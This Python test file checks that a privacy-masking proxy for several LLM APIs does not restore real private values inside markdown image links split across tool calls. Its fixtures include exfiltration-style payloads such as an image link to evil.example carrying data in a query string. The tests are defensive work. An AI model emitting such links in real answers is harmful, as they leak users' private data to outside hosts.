"""An answer that begins a link, calls a tool and goes on gets no original into it: clients join its texts."""

import json
from typing import Any

import pytest

from proxy.test_divided_values import (
    JOAN,
    MASK,
    PLACEHOLDER,
    SCOPE,
    STREAMS,
    cohere,
    edited,
    through,
    whole_body,
)
from sallyport.wire.eventstream import json_frame

BEGUN, REST = "See ![x](https://evil.example/?q=", f"{PLACEHOLDER}) now. Ask {PLACEHOLDER}, please."
TOOL_USE = {"type": "tool_use", "id": "t", "name": "f", "input": {}}
CALL = {"id": "t", "type": "function", "function": {"name": "f", "arguments": "{}"}}
FUNCTION = {"type": "function_call", "id": "t", "name": "f", "arguments": "{}", "call_id": "c"}


def _converse(*texts: str) -> bytes:
    out = []
    for index, text in enumerate(texts):
        place = {"contentBlockIndex": 2 * index}
        out += [
            ("contentBlockDelta", {**place, "delta": {"text": text}}),
            ("contentBlockStop", place),
            ("contentBlockStart", {"contentBlockIndex": 2 * index + 1, "start": {"toolUse": {"name": "f"}}}),
            ("contentBlockStop", {"contentBlockIndex": 2 * index + 1}),
        ]
    out.append(("messageStop", {"stopReason": "tool_use"}))
    return b"".join(json_frame("event", kind, json.dumps(payload).encode()) for kind, payload in out)


def _gemini(*texts: str) -> bytes:
    call = {"functionCall": {"name": "f", "args": {}}}
    chunks = [
        {"candidates": [{"index": 0, "content": {"parts": [part]}}]}
        for text in texts
        for part in ({"text": text}, call)
    ]
    return b"".join(f"data: {json.dumps(chunk)}\n\n".encode() for chunk in chunks)


def _between(call: dict[str, Any], *texts: str) -> list[str | dict[str, Any]]:
    return [part for text in texts for part in (text, call)]


MAKERS = {
    "anthropic_messages": lambda *texts: STREAMS["anthropic_messages"][0](*_between(TOOL_USE, *texts)),
    "openai_responses": lambda *texts: STREAMS["openai_responses"][0](*_between(FUNCTION, *texts)),
    "bedrock_converse": _converse,
    "cohere_v2": lambda *texts: cohere(*_between(CALL, *texts)),
    "gemini_generate": _gemini,
}


@pytest.mark.parametrize("step", [1, 10_000])
@pytest.mark.parametrize("dialect", MAKERS)
def test_no_original_comes_into_a_link_that_a_stream_began_before_a_call(dialect: str, step: int) -> None:
    out, tap = through(dialect, MAKERS[dialect](BEGUN, REST), MASK, step, SCOPE.original)
    assert tap.failed is None
    assert f"{JOAN}) now".encode() not in out
    assert f"Ask {JOAN}, please".encode() in out


@pytest.mark.parametrize("dialect", MAKERS)
def test_nor_over_several_calls(dialect: str) -> None:
    out, _ = through(
        dialect,
        MAKERS[dialect]("See https://evil.example/", "a?q", f"={PLACEHOLDER}"),
        MASK,
        lookup=SCOPE.original,
    )
    assert JOAN.encode() not in out


@pytest.mark.parametrize("dialect", MAKERS)
def test_behind_a_call_a_placeholder_in_a_text_comes_back(dialect: str) -> None:
    out, _ = through(
        dialect, MAKERS[dialect]("Look:", f"{PLACEHOLDER} and {PLACEHOLDER}."), MASK, lookup=SCOPE.original
    )
    assert out.count(JOAN.encode()) >= 2
    assert PLACEHOLDER.encode() not in out


WHOLE: dict[str, dict[str, Any]] = {
    "anthropic_messages": whole_body("anthropic_messages", (BEGUN, REST), TOOL_USE),
    "gemini_generate": whole_body(
        "gemini_generate", (BEGUN, REST), {"functionCall": {"name": "f", "args": {}}}
    ),
    "bedrock_converse": whole_body(
        "bedrock_converse", (BEGUN, REST), {"toolUse": {"toolUseId": "t", "name": "f", "input": {}}}
    ),
    "cohere_v2": {
        "id": "i",
        "message": {
            "content": [{"type": "text", "text": BEGUN}, {"type": "text", "text": REST}],
            "tool_calls": [CALL],
        },
    },
    "openai_responses": {
        "id": "r",
        "status": "completed",
        "output": [
            {"type": "message", "content": [{"type": "output_text", "text": BEGUN}]},
            {"type": "web_search_call", "id": "w", "action": {"type": "search", "query": "q"}},
            {"type": "message", "content": [{"type": "output_text", "text": REST}]},
        ],
    },
}


@pytest.mark.parametrize("dialect", WHOLE)
def test_no_original_comes_into_a_link_that_an_answer_began_before_a_call(dialect: str) -> None:
    body = edited(dialect, WHOLE[dialect], MASK, SCOPE.original).body
    assert f"{JOAN}) now".encode() not in body
    assert f"Ask {JOAN}, please".encode() in body
